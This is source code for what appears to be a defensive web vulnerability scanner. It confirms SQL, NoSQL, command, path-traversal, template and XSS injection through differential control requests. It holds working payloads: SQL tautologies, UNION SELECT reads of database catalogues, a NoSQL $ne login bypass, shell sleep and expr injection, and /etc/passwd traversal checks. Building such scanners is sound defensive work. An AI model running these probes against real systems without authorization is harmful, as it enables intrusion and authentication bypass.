// Injection checkers, each confirmed by a differential, never by a payload merely being sent:
// SQL (error signature absent from the baseline; boolean true/false answers differ while false
// equals the baseline; time delay repeated against a zero-delay control), NoSQL operators,
// OS commands (computed echo marker absent from the payload; sleep timing), path traversal
// (marker file content), template injection (product computed server-side), reflected XSS
// served as text/html.

import {
  answered2xx,
  type InjectionPoint,
  type Location,
  ok,
  parseJson,
  type ScanContext,
} from '../context.js';
import { credentialFields, isLoginOp } from '../ops.js';
import type { ScanExchange, ScanTest } from '../types.js';
import { knownAccounts } from './auth.js';

function points(ctx: ScanContext, test: ScanTest, filter?: (name: string) => boolean): InjectionPoint[] {
  const location = String(test.options['location'] ?? 'query') as Location;
  return ctx.injectionPoints(location, (name, schema) => {
    const t = schema['type'];
    const stringish =
      t === undefined ||
      t === 'string' ||
      (test.options['numeric'] === true && (t === 'integer' || t === 'number'));
    return stringish && (!filter || filter(name));
  });
}

function where(p: InjectionPoint): string {
  return `${p.location}.${p.name}`;
}

const SQL_ERRORS = [
  /SQLITE_ERROR|SqliteError|unrecognized token:|near ".*": syntax error/i,
  /You have an error in your SQL syntax|mysql_fetch|MySqlException/i,
  /unterminated quoted string at or near|syntax error at or near|PSQLException|pg_query\(\)/i,
  /Unclosed quotation mark after the character string|SqlException|ODBC SQL Server Driver/i,
  /ORA-0\d{4}|quoted string not properly terminated/i,
];

export async function sqliError(ctx: ScanContext, test: ScanTest): Promise<void> {
  for (const p of points(ctx, test)) {
    const base = await ctx.send({ ...p.build(p.sample), note: 'control: sample value' });
    if (!base || SQL_ERRORS.some((re) => re.test(base.response.body))) continue;
    const probe = await ctx.send({ ...p.build(`${String(p.sample ?? '')}'"`), note: 'quote characters' });
    const sig = probe && SQL_ERRORS.find((re) => re.test(probe.response.body));
    if (!probe || !sig) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, probe],
      control:
        'the same request with the sample value shows no SQL error; adding a quote produces a database error message',
      detail: `A quote in ${where(p)} breaks the SQL statement of ${p.op.method} ${p.op.path}.`,
      detailJa: `${where(p)} に入れた引用符が ${p.op.method} ${p.op.path} の SQL 文を壊す。`,
      controlJa:
        'サンプル値の同じリクエストでは SQL エラーが出ず、引用符を加えるとデータベースのエラーメッセージが返る',
      confidence: 0.95,
    });
  }
}

function same(a: ScanExchange, b: ScanExchange): boolean {
  return a.response.status === b.response.status && a.response.body === b.response.body;
}

/** Same answers once each has its own echoed input (raw or JSON-escaped) replaced by a placeholder. */
function sameEchoing(a: ScanExchange, av: string, b: ScanExchange, bv: string): boolean {
  const strip = (body: string, v: string) =>
    body.split(v).join('<v>').split(JSON.stringify(v).slice(1, -1)).join('<v>');
  return a.response.status === b.response.status && strip(a.response.body, av) === strip(b.response.body, bv);
}

export async function sqliBoolean(ctx: ScanContext, test: ScanTest): Promise<void> {
  const numeric = test.options['numeric'] === true;
  for (const p of points(ctx, test)) {
    const isNum = /integer|number/.test(String(p.schema['type']));
    if (numeric !== isNum) continue;
    const v = numeric ? String(p.sample ?? 1) : `${String(p.sample ?? 'mamori')}${ctx.rng.marker('')}`;
    // Default: SQL; other dialects (server-side JavaScript) name their own true/false templates.
    const tt = test.options['true'] as string | undefined;
    const ft = test.options['false'] as string | undefined;
    const t = tt ? tt.replace('{v}', v) : numeric ? `${v} OR 1=1` : `${v}' OR '1'='1`;
    const f = ft ? ft.replace('{v}', v) : numeric ? `${v} AND 1=2` : `${v}' AND '1'='2`;
    const base = await ctx.send({ ...p.build(v), note: 'control: plain value' });
    const yes = await ctx.send({ ...p.build(t), note: 'always-true condition' });
    const no = await ctx.send({ ...p.build(f), note: 'always-false condition' });
    if (!base || !yes || !no || ctx.plan) continue;
    if (same(yes, no) || !ok(yes)) continue;
    // The false condition must look like a no-match / the baseline (an answer that echoes the value
    // it was given is compared without it); the true one must return more.
    if (!numeric && !same(no, base) && !sameEchoing(no, f, base, v)) continue;
    if (yes.response.body.length <= no.response.body.length) continue;
    const again = await ctx.send({ ...p.build(t), note: 'repeat the true condition' });
    if (!again || !same(again, yes)) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, yes, no, again],
      control:
        'the always-false condition answers like the plain value, the always-true one returns more, and repeating it gives the same answer',
      detail: `Boolean conditions injected into ${where(p)} change the result of ${p.op.method} ${p.op.path}.`,
      detailJa: `${where(p)} に注入した真偽条件で ${p.op.method} ${p.op.path} の結果が変わる。`,
      controlJa:
        '常に偽の条件は元の値と同じ応答、常に真の条件はより多くの結果を返し、繰り返しても同じ応答になる',
      confidence: 0.95,
    });
  }
}

export async function sqliTime(ctx: ScanContext, test: ScanTest): Promise<void> {
  const seconds = Number(test.options['seconds'] ?? 1.5);
  const template = String(test.options['payload']);
  for (const p of points(ctx, test)) {
    const v = String(p.sample ?? 'mamori');
    // {s} is seconds for SQL sleeps; {ms} milliseconds for JavaScript-style sleep(ms).
    const payload = (s: number) =>
      template
        .replace('{v}', v)
        .replace('{s}', String(s))
        .replace('{ms}', String(Math.round(s * 1000)));
    const zero = await ctx.send({ ...p.build(payload(0)), note: 'control: zero delay' });
    const slow = await ctx.send({ ...p.build(payload(seconds)), note: `delay ${seconds}s` });
    if (!zero || !slow || ctx.plan) continue;
    if (slow.response.ms - zero.response.ms < seconds * 900) continue;
    const zero2 = await ctx.send({ ...p.build(payload(0)), note: 'control: zero delay again' });
    const slow2 = await ctx.send({ ...p.build(payload(seconds * 2)), note: `delay ${seconds * 2}s` });
    if (!zero2 || !slow2 || slow2.response.ms - zero2.response.ms < seconds * 1800) continue;
    // The delay must follow the payload: twice the sleep is visibly slower than once (a latency
    // spike on a loaded target is not; a payload slept once per row scales the same way).
    if (slow2.response.ms - slow.response.ms < seconds * 500) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [zero, slow, zero2, slow2],
      control: `zero-delay payloads answered in ${Math.round(zero.response.ms)} and ${Math.round(zero2.response.ms)} ms; ${seconds}s and ${seconds * 2}s payloads took ${Math.round(slow.response.ms)} and ${Math.round(slow2.response.ms)} ms (delay scales with the payload)`,
      detail: `A ${String(test.options['what'] ?? 'database sleep')} injected into ${where(p)} delays ${p.op.method} ${p.op.path}.`,
      detailJa: `${where(p)} に注入した遅延処理(${String(test.options['what'] ?? 'SQL の sleep')})で ${p.op.method} ${p.op.path} の応答が遅れる。`,
      controlJa: `遅延 0 のペイロードは ${Math.round(zero.response.ms)} ms と ${Math.round(zero2.response.ms)} ms で応答し、${seconds} 秒と ${seconds * 2} 秒のペイロードは ${Math.round(slow.response.ms)} ms と ${Math.round(slow2.response.ms)} ms かかった(遅延がペイロードに比例する)`,
      confidence: 0.9,
    });
  }
}

/** NoSQL operators: login with {"$ne": …} objects, or bracket operators in the query string. */
export async function nosqlOperator(ctx: ScanContext, test: ScanTest): Promise<void> {
  const operator = String(test.options['operator'] ?? '$ne');
  const operand = test.options['operand'] ?? null;
  if (test.options['location'] === 'query') {
    for (const p of points(ctx, test)) {
      const nomatch = ctx.rng.marker('nomatch');
      const base = await ctx.send({ ...p.build(nomatch), note: 'control: a value matching nothing' });
      const r = p.build(nomatch);
      const withOperator = (op: string) => {
        const [path, qs = ''] = r.path.split('?');
        const q = qs.split('&').filter((kv) => !kv.startsWith(`${encodeURIComponent(p.name)}=`));
        q.push(`${encodeURIComponent(p.name)}[${encodeURIComponent(op)}]=${nomatch}`);
        return `${path}?${q.join('&')}`;
      };
      if (!ok(base)) continue;
      const probe = await ctx.send({ ...r, path: withOperator(operator), note: `${p.name}[${operator}]` });
      if (!ok(probe) || ctx.plan) continue;
      if (probe.response.body.length <= base.response.body.length || same(probe, base)) continue;
      // A server that ignores the unknown bracket parameter returns the unfiltered list for any
      // operator; $eq must then answer like the plain value for the operator to be evaluated.
      const eq = await ctx.send({ ...r, path: withOperator('$eq'), note: `control: ${p.name}[$eq]` });
      if (!eq || !same(eq, base)) continue;
      ctx.report(test, {
        op: p.op,
        where: where(p),
        proof: [base, probe, eq],
        control: `${p.name}=${nomatch} and ${p.name}[$eq]=${nomatch} matched nothing; ${p.name}[${operator}]=${nomatch} returned more data, so the operator was evaluated`,
        detail: `${p.op.method} ${p.op.path} passes query operators from ${p.name} to the database.`,
        detailJa: `${p.op.method} ${p.op.path} が ${p.name} のクエリー演算子をデータベースにそのまま渡す。`,
        controlJa: `${p.name}=${nomatch} と ${p.name}[$eq]=${nomatch} は何も一致せず、${p.name}[${operator}]=${nomatch} はより多くのデータを返したため、演算子が評価されている`,
        confidence: 0.9,
      });
    }
    return;
  }
  for (const op of ctx.ops(isLoginOp)) {
    const f = credentialFields(op);
    if (!f.user || !f.pass) continue;
    const sample = (ctx.sampleBody(op) as Record<string, unknown>) ?? {};
    const wrong = await ctx.send({
      method: op.method,
      path: ctx.fullPath(op.path),
      body: JSON.stringify({ ...sample, [f.user]: ctx.rng.marker('nouser'), [f.pass]: ctx.rng.marker('pw') }),
      op,
      as: '',
      note: 'control: unknown account',
    });
    if (!wrong || answered2xx(wrong)) continue;
    const probe = await ctx.send({
      method: op.method,
      path: ctx.fullPath(op.path),
      body: JSON.stringify({
        ...sample,
        [f.user]: { [operator]: operand },
        [f.pass]: { [operator]: operand },
      }),
      op,
      as: '',
      note: `operator ${operator} in the credentials`,
    });
    if (!ok(probe)) continue;
    if (!/token|session|jwt|"user"|"id"/i.test(probe.response.body)) continue;
    ctx.report(test, {
      op,
      where: `body.${f.user}`,
      proof: [wrong, probe],
      control: `an unknown account with a wrong password got ${wrong.response.status}; operator objects instead of strings logged in`,
      detail: `${op.method} ${op.path} evaluates ${operator} from the JSON credentials: authentication bypass.`,
      detailJa: `${op.method} ${op.path} が JSON の認証情報にある ${operator} を評価する: 認証を回避できる。`,
      controlJa: `存在しないアカウントと誤ったパスワードでは ${wrong.response.status} となり、文字列の代わりに演算子オブジェクトを送るとログインできた`,
      confidence: 0.95,
    });
  }
}

export async function commandInjection(ctx: ScanContext, test: ScanTest): Promise<void> {
  const template = String(test.options['payload']);
  if (test.options['timing'] === true) {
    for (const p of points(ctx, test)) {
      const v = String(p.sample ?? 'mamori');
      const zero = await ctx.send({
        ...p.build(template.replace('{v}', v).replace('{s}', '0')),
        note: 'control: sleep 0',
      });
      const slow = await ctx.send({
        ...p.build(template.replace('{v}', v).replace('{s}', '2')),
        note: 'sleep 2',
      });
      if (!zero || !slow || ctx.plan || slow.response.ms - zero.response.ms < 1800) continue;
      const slow2 = await ctx.send({
        ...p.build(template.replace('{v}', v).replace('{s}', '3')),
        note: 'sleep 3',
      });
      if (!slow2 || slow2.response.ms - zero.response.ms < 2700) continue;
      ctx.report(test, {
        op: p.op,
        where: where(p),
        proof: [zero, slow, slow2],
        control: `sleep 0 took ${Math.round(zero.response.ms)} ms, sleep 2 and sleep 3 took ${Math.round(slow.response.ms)} and ${Math.round(slow2.response.ms)} ms`,
        detail: `A shell sleep injected into ${where(p)} delays ${p.op.method} ${p.op.path}.`,
        detailJa: `${where(p)} に注入したシェルの sleep で ${p.op.method} ${p.op.path} の応答が遅れる。`,
        controlJa: `sleep 0 は ${Math.round(zero.response.ms)} ms、sleep 2 と sleep 3 は ${Math.round(slow.response.ms)} ms と ${Math.round(slow2.response.ms)} ms かかった`,
        confidence: 0.9,
      });
    }
    return;
  }
  for (const p of points(ctx, test)) {
    const a = ctx.rng.int(10000, 49999);
    const b = ctx.rng.int(10000, 49999);
    const expected = String(a + b);
    const payload = template
      .replace('{v}', String(p.sample ?? 'mamori'))
      .replace('{cmd}', `expr ${a} + ${b}`);
    const probe = await ctx.send({ ...p.build(payload), note: 'command computing a sum' });
    if (!probe?.response.body.includes(expected)) continue;
    const base = await ctx.send({ ...p.build(p.sample ?? 'mamori'), note: 'control: sample value' });
    if (!base || base.response.body.includes(expected)) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, probe],
      control: `the answer contains ${expected} = ${a} + ${b}, a number the payload does not contain and the baseline answer lacks`,
      detail: `A shell command injected into ${where(p)} ran on the server (output echoed).`,
      detailJa: `${where(p)} に注入したシェルコマンドがサーバー上で実行された(出力が応答に含まれる)。`,
      controlJa: `応答に ${expected} = ${a} + ${b} が含まれる。この数はペイロードにも基準の応答にもない`,
      confidence: 1,
    });
  }
}

const FILE_PARAM =
  /(file|path|name|doc|document|template|page|download|attachment|filename|report|folder|dir)$/i;

export async function pathTraversal(ctx: ScanContext, test: ScanTest): Promise<void> {
  const payload = String(test.options['payload']);
  const marker = /root:[x*]?:0:0:/;
  for (const p of points(ctx, test, (n) => FILE_PARAM.test(n))) {
    const base = await ctx.send({ ...p.build(p.sample ?? 'mamori.txt'), note: 'control: sample value' });
    if (!base || marker.test(base.response.body)) continue;
    const probe = await ctx.send({ ...p.build(payload, true), note: 'path traversal' });
    if (!ok(probe) || !marker.test(probe.response.body)) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, probe],
      control:
        'the sample file name returns no /etc/passwd content; the traversal returns its first line (root:x:0:0:)',
      detail: `${where(p)} of ${p.op.method} ${p.op.path} reads files outside its directory (${payload}).`,
      detailJa: `${p.op.method} ${p.op.path} の ${where(p)} でディレクトリー外のファイルを読める(${payload})。`,
      controlJa:
        'サンプルのファイル名では /etc/passwd の内容は返らず、トラバーサルではその先頭行 (root:x:0:0:) が返る',
      confidence: 1,
    });
  }
}

export async function ssti(ctx: ScanContext, test: ScanTest): Promise<void> {
  const template = String(test.options['payload']);
  for (const p of points(ctx, test)) {
    const a = ctx.rng.int(1000, 9999);
    const b = ctx.rng.int(1000, 9999);
    const product = String(a * b);
    const payload = template.replace('{a}', String(a)).replace('{b}', String(b));
    const probe = await ctx.send({ ...p.build(payload), note: 'template expression' });
    if (!probe?.response.body.includes(product)) continue;
    const base = await ctx.send({ ...p.build(p.sample ?? 'mamori'), note: 'control: sample value' });
    if (!base || base.response.body.includes(product)) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, probe],
      control: `the answer contains ${product} = ${a} × ${b}, computed server-side (the payload holds only the factors)`,
      detail: `${where(p)} is evaluated as a template expression (${template.replace(/\{[ab]\}/g, 'N')}).`,
      detailJa: `${where(p)} がテンプレート式として評価される(${template.replace(/\{[ab]\}/g, 'N')})。`,
      controlJa: `応答に ${product} = ${a} × ${b} が含まれ、サーバー側で計算されている(ペイロードには因数しかない)`,
      confidence: 1,
    });
  }
}

export async function xssReflected(ctx: ScanContext, test: ScanTest): Promise<void> {
  for (const p of points(ctx, test)) {
    const marker = ctx.rng.marker('x');
    const payload = String(test.options['payload']).replace('{m}', marker);
    const probe = await ctx.send({ ...p.build(payload), note: 'HTML marker' });
    if (!probe) continue;
    const ct = probe.response.headers['content-type'] ?? '';
    if (!/text\/html/i.test(ct) || !probe.response.body.includes(payload)) continue;
    const parsed = parseJson(probe.response.body);
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [probe],
      control: `the markup came back unescaped in a ${ct} answer${parsed !== undefined ? ' (a JSON body labelled as HTML)' : ''}, which a browser renders`,
      detail: `${where(p)} of ${p.op.method} ${p.op.path} is reflected into HTML without encoding.`,
      detailJa: `${p.op.method} ${p.op.path} の ${where(p)} がエンコードされずに HTML に反映される。`,
      controlJa: `マークアップがエスケープされずに ${ct} の応答で返り${parsed !== undefined ? '(HTML と表示された JSON ボディ)' : ''}、ブラウザーが描画する`,
      confidence: 0.95,
    });
  }
}

/** SQL injection in the login: a payload that comments out (or short-circuits) the password check logs in. */
export async function sqliLogin(ctx: ScanContext, test: ScanTest): Promise<void> {
  const template = String(test.options['payload']);
  for (const op of ctx.ops(isLoginOp)) {
    const f = credentialFields(op);
    if (!f.user || !f.pass) continue;
    const userField = f.user;
    let payload = template;
    if (template.includes('{known}')) {
      const account = knownAccounts(ctx).find((k) =>
        /mail/i.test(userField) ? k.includes('@') : !k.includes('@'),
      );
      if (!account) continue;
      payload = template.replace('{known}', account);
    }
    const sample = (ctx.sampleBody(op) as Record<string, unknown>) ?? {};
    const login = (user: string, note: string) =>
      ctx.send({
        method: op.method,
        path: ctx.fullPath(op.path),
        body: JSON.stringify({ ...sample, [userField]: user, [f.pass!]: `Wrong-${ctx.rng.marker('pw')}` }),
        op,
        as: '',
        note,
      });
    const control = await login(
      template.includes('{known}') ? payload.replace(/'.*$/s, '') : ctx.rng.marker('nouser'),
      'control: wrong password',
    );
    if (!control || answered2xx(control)) continue;
    const probe = await login(payload, 'SQL in the user name');
    if (!ok(probe) || !/token|session|jwt|authentication/i.test(probe.response.body)) continue;
    ctx.report(test, {
      op,
      where: `body.${userField}`,
      proof: [control, probe],
      control: `the same login with a wrong password and no SQL got ${control.response.status}; the payload logged in without the password`,
      detail: `${op.method} ${op.path} builds its credential query from ${userField}: authentication bypass with ${payload}.`,
      detailJa: `${op.method} ${op.path} は ${userField} から認証のクエリーを組み立てる: ${payload} で認証を回避できる。`,
      controlJa: `SQL を含まない誤ったパスワードでの同じログインは ${control.response.status} となり、ペイロードではパスワードなしでログインできた`,
      confidence: 1,
    });
  }
}

const CLOSERS = ["'", "')", "'))", '"', ''];
const sqlFailed = (ex: ScanExchange) =>
  ex.response.status >= 500 || SQL_ERRORS.some((re) => re.test(ex.response.body));

/** UNION-based SQL injection, proven by reading the database's own catalogue (table definitions),
 *  what an attacker would do first. Column count by ORDER BY bisection, then a UNION of markers to
 *  see which columns are shown, then the catalogue of the DBMS that answered. */
export async function sqliUnion(ctx: ScanContext, test: ScanTest): Promise<void> {
  for (const p of points(ctx, test)) {
    const v = `${String(p.sample ?? 'mamori')}`;
    const send = (value: string, note: string) => ctx.send({ ...p.build(value), note });
    const base = await send(v, 'control: sample value');
    if (!base || sqlFailed(base) || ctx.plan) continue;
    let closer: string | undefined;
    for (const c of CLOSERS) {
      const one = await send(`${v}${c} ORDER BY 1-- -`, `ORDER BY 1 after ${c || 'nothing'}`);
      if (!one || sqlFailed(one)) continue;
      const many = await send(`${v}${c} ORDER BY 99-- -`, `ORDER BY 99 after ${c || 'nothing'}`);
      if (many && sqlFailed(many)) {
        closer = c;
        break;
      }
    }
    if (closer === undefined) continue;
    // Largest n for which ORDER BY n works = the number of columns.
    let lo = 1;
    let hi = 99;
    while (hi - lo > 1) {
      const mid = Math.floor((lo + hi) / 2);
      const ex = await send(`${v}${closer} ORDER BY ${mid}-- -`, `ORDER BY ${mid}`);
      if (ex && !sqlFailed(ex)) lo = mid;
      else hi = mid;
    }
    const columns = lo;
    if (columns > 40) continue;
    const nomatch = ctx.rng.marker('u');
    const cols = (fill: (i: number) => string) =>
      Array.from({ length: columns }, (_, i) => fill(i)).join(',');
    const markers = await send(
      `${nomatch}${closer} UNION SELECT ${cols((i) => `'${nomatch}c${i}'`)}-- -`,
      `UNION SELECT of ${columns} markers`,
    );
    if (!markers || sqlFailed(markers)) continue;
    const shown = Array.from({ length: columns }, (_, i) => i).find((i) =>
      markers.response.body.includes(`${nomatch}c${i}`),
    );
    if (shown === undefined) continue;
    const select = (expr: string, from: string) =>
      `${nomatch}${closer} UNION SELECT ${cols((i) => (i === shown ? expr : `'${nomatch}'`))}${from}-- -`;
    // The catalogue of whichever DBMS answers: SQLite, then MySQL/PostgreSQL/SQL Server.
    let proof: ScanExchange | undefined;
    let tables: string[] = [];
    for (const [expr, from, pick] of [
      ['sql', ' FROM sqlite_master', /CREATE TABLE [`"']?(\w+)/g],
      ['table_name', ' FROM information_schema.tables', /"(\w+)"/g],
    ] as const) {
      const ex = await send(select(expr, from), `database catalogue (${from.trim()})`);
      if (!ex || sqlFailed(ex) || !ok(ex) || same(ex, markers)) continue;
      tables = [...ex.response.body.matchAll(pick)].map((m) => m[1]!).filter((t) => !t.startsWith(nomatch));
      if (expr === 'table_name' && !/information_schema|pg_catalog|\b[A-Z_]{4,}\b/i.test(ex.response.body))
        continue;
      if (tables.length === 0) continue;
      proof = ex;
      break;
    }
    if (!proof) continue;
    ctx.report(test, {
      op: p.op,
      where: where(p),
      proof: [base, markers, proof],
      control: `ORDER BY 1 works and ORDER BY 99 fails after ${closer || 'the value'} (the value closes a SQL string), ${columns} columns by bisection, the UNION's marker ${nomatch}c${shown} is shown, and the catalogue query returns table definitions the sample value never did`,
      detail: `UNION-based SQL injection in ${where(p)} of ${p.op.method} ${p.op.path} reads the database catalogue: ${[...new Set(tables)].slice(0, 12).join(', ')}.`,
      detailJa: `${p.op.method} ${p.op.path} の ${where(p)} に UNION ベースの SQL インジェクションがあり、データベースのカタログを読める: ${[...new Set(tables)].slice(0, 12).join('、')}。`,
      controlJa: `ORDER BY 1 は成功し、${closer || '値'} の後の ORDER BY 99 は失敗する(値が SQL の文字列を閉じる)。二分探索で ${columns} 列と判明し、UNION のマーカー ${nomatch}c${shown} が表示され、カタログへの問い合わせでサンプル値では返らなかったテーブル定義が返った`,
      confidence: 1,
    });
  }
}
